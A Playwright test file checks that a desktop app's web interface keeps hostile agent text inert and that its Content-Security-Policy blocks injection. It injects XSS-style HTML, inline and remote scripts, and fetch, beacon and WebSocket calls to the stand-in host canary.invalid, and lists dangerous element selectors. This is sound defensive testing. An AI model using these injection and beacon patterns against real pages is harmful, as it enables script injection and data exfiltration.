import { readFileSync } from 'node:fs'
import { expect, test, type Page, type Request } from '@playwright/test'
import { attack } from '../src/backend/fake/hostile'

// The page as an agent and a repository would attack it: every text that it shows tries to become more than text.

interface Spy {
  ran: string[]
  called: string[]
}

/** Notes what runs in the page, each call of a bound Go method, and each request that leaves for elsewhere. */
async function watch(page: Page): Promise<{ left: string[]; opened: string[]; spy: () => Promise<Spy> }> {
  const left: string[] = []
  const opened: string[] = []
  // What the page's policy stops is told as a request too, and fails with its own reason.
  const gone = (r: Request) => {
    const elsewhere = !r.url().startsWith(new URL(page.url()).origin) && !r.url().startsWith('data:')
    if (elsewhere && !/csp/i.test(r.failure()?.errorText ?? ''))
      left.push(`${r.url()} ${r.failure()?.errorText}`)
  }
  page.on('requestfinished', gone)
  page.on('requestfailed', gone)
  page.on('console', (m) => m.text().startsWith('open ') && opened.push(m.text().slice(5)))
  page.on('dialog', (d) => {
    left.push(`dialog ${d.message()}`)
    void d.dismiss()
  })
  await page.evaluate(() => {
    const w = window as unknown as Record<string, unknown>
    const spy: Spy = { ran: [], called: [] }
    w['spy'] = spy
    w['pwned'] = (way: string) => spy.ran.push(way)
    const bound = (path: string): unknown =>
      new Proxy(() => undefined, {
        get: (_, name) => bound(`${path}.${String(name)}`),
        apply: () => spy.called.push(path),
      })
    w['go'] = bound('go') // as Wails puts it into the page; the page itself has chosen its backend by now
    w['webkit'] = bound('webkit')
  })
  return { left, opened, spy: () => page.evaluate(() => (window as unknown as { spy: Spy }).spy) }
}

test('text of an agent stays text wherever it is shown', async ({ page }) => {
  test.setTimeout(120_000)
  await page.goto('/?fake=hostile&pace=0.05')
  await expect(page.locator('.window')).toBeVisible()
  const { left, opened, spy } = await watch(page)
  const at = page.url()
  let shown = 0
  const look = async () => {
    await page.waitForTimeout(150)
    shown += await page.evaluate(() => document.body.innerText.split('onerror=').length - 1)
    const alive = await page.evaluate(
      () =>
        document.querySelectorAll(
          'iframe, object, embed, base, form[action], [src^="http"], link[href*="canary"], [href^="javascript"], [href^="data:text"], [href^="file"], [href^="vbscript"], [onerror], [onload], [onfocus], [onmouseover], body script:not([src])',
        ).length,
    )
    expect(alive, 'elements that only foreign text could have made').toBe(0)
  }
  await look()
  const rows = page
    .getByRole('navigation')
    .locator('[data-session], a, button')
    .filter({ hasText: 'onerror' })
  const count = await rows.count()
  expect(count).toBeGreaterThan(5)
  for (let i = 0; i < Math.min(count, 8); i++) {
    await rows.nth(i).click()
    await look()
    for (const fold of await page.getByRole('log').locator('button[aria-expanded="false"]').all())
      if (await fold.isVisible()) await fold.click({ timeout: 2000 }).catch(() => undefined)
    await look()
    for (const pane of ['Changes', 'Details', 'Network']) {
      const button = page
        .getByLabel(pane, { exact: true })
        .or(page.getByTitle(pane, { exact: true }))
        .first()
      if (!(await button.isVisible())) continue
      await button.click()
      await look()
      const file = page.getByRole('complementary').getByText('timeout.ts').first()
      if (pane === 'Changes' && (await file.isVisible())) {
        await file.click()
        await look()
      }
    }
    // What the page makes a link of is opened by the native side, and only what is safe to open.
    for (const link of (await page.getByRole('log').getByRole('link').all()).slice(0, 4))
      await link.click({ timeout: 2000 }).catch(() => undefined)
  }
  await page.keyboard.press('Control+k')
  await look()
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: 'Settings' }).first().click()
  await look()

  expect(shown, 'places where the attack was shown').toBeGreaterThan(50)
  expect(await spy()).toEqual({ ran: [], called: [] })
  expect(left).toEqual([])
  expect(page.url()).toBe(at)
  expect(opened.length, 'links that were opened').toBeGreaterThan(0)
  expect(opened.filter((url) => !/^(https?|mailto):/.test(url))).toEqual([])
})

test('control: the same text runs in a page that takes it for HTML', async ({ page }) => {
  await page.route('**/plain', (r) =>
    r.fulfill({ contentType: 'text/html', body: '<!doctype html><title>x</title>' }),
  )
  await page.goto('/plain')
  const { left, spy } = await watch(page)
  await page.evaluate((html) => (document.body.innerHTML = html), attack)
  await page.getByText('a', { exact: true }).last().click()
  await expect
    .poll(async () => (await spy()).ran)
    .toEqual(expect.arrayContaining(['img', 'frame', 'focus', 'a']))
  await expect.poll(() => left.join(' ')).toContain('http://canary.invalid/beacon')
})

test('the policy of the page stops what would get into it', async ({ page }) => {
  await page.goto('/?fake=busy')
  await expect(page.locator('.window')).toBeVisible()
  const { left, spy } = await watch(page)
  // A fault that puts foreign text into the page as HTML, and one that makes a script of it.
  await page.evaluate((html) => {
    document.body.insertAdjacentHTML('beforeend', html)
    const s = document.createElement('script')
    s.textContent = "pwned('inline script')"
    document.body.append(s)
    const far = document.createElement('script')
    far.src = 'http://canary.invalid/script.js'
    document.body.append(far)
    document.body.append(
      Object.assign(document.createElement('iframe'), { src: 'http://canary.invalid/frame' }),
    )
    for (const f of document.forms) if (f.action.includes('canary')) f.requestSubmit()
    void fetch('http://canary.invalid/fetch').catch(() => undefined)
    navigator.sendBeacon('http://canary.invalid/beacon')
    try {
      new WebSocket('ws://canary.invalid/socket')
    } catch {
      // refused, as it should be
    }
  }, attack)
  await page.waitForTimeout(1000)
  expect(await spy()).toEqual({ ran: [], called: [] })
  expect(left.filter((url) => !url.startsWith('dialog'))).toEqual([])
})

test('the page that is built has the policy', () => {
  const html = readFileSync('dist/index.html', 'utf8')
  const policy = /http-equiv="Content-Security-Policy"\s+content="([^"]*)"/.exec(html)?.[1] ?? ''
  const rules = new Map(
    policy.split(';').map((r) => [r.trim().split(' ')[0], r.trim().split(' ').slice(1).join(' ')] as const),
  )
  expect(rules.get('default-src')).toBe("'none'")
  expect(rules.get('script-src')).toBe("'self'")
  expect(rules.get('connect-src')).toBe("'self'")
  expect(rules.get('form-action')).toBe("'none'")
  expect(rules.get('base-uri')).toBe("'none'")
  expect(policy).not.toMatch(/https?:|\*|unsafe-eval/)
  expect(html).not.toMatch(/<script(?![^>]*\bsrc=)/)
  expect(html).not.toMatch(/(src|href)="(https?:)?\/\//)
})
